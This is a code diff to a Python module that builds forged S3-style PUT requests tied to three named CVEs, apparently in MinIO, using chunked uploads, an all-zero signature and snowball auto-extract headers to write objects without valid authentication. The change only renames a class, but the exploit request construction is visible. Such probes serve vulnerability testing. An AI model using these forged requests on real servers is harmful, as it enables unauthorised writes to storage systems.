@@ -20,7 +20,7 @@ _NO_SIGNATURE: Final = "0" * 64
 _CONTENT: Final = b"probe"
 
 
-class Forgery(NamedTuple):
+class ForgedRequest(NamedTuple):
     """A request; ``weakness`` is what a server has that takes it."""
 
     weakness: str
@@ -29,7 +29,7 @@ class Forgery(NamedTuple):
     body: bytes
 
 
-def forgeries(folder: str, name: str, access_key: str, region: str) -> Iterator[Forgery]:
+def forgeries(folder: str, name: str, access_key: str, region: str) -> Iterator[ForgedRequest]:
     """PUT requests that would write the object ``folder/name``.
 
     Args:
@@ -48,7 +48,7 @@ def forgeries(folder: str, name: str, access_key: str, region: str) -> Iterator[
         "x-amz-decoded-content-length": str(len(_CONTENT)),
         "x-amz-trailer": "x-amz-checksum-crc32",
     }
-    yield Forgery("CVE-2025-31489", "", chunked | named, _chunks())
+    yield ForgedRequest("CVE-2025-31489", "", chunked | named, _chunks())
     in_query = {
         "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
         "X-Amz-Credential": credential,
@@ -57,12 +57,12 @@ def forgeries(folder: str, name: str, access_key: str, region: str) -> Iterator[
         "X-Amz-SignedHeaders": "host",
         "X-Amz-Signature": _NO_SIGNATURE,
     }
-    yield Forgery("CVE-2026-41145", urlencode(in_query), chunked, _chunks())
+    yield ForgedRequest("CVE-2026-41145", urlencode(in_query), chunked, _chunks())
     unpacked = {
         "X-Amz-Meta-Snowball-Auto-Extract": "true",
         "X-Amz-Meta-Minio-Snowball-Prefix": folder,
     }
-    yield Forgery("CVE-2026-40344", "", of_all | named | unpacked, _archive(name))
+    yield ForgedRequest("CVE-2026-40344", "", of_all | named | unpacked, _archive(name))
 
 
 def _chunks() -> bytes:
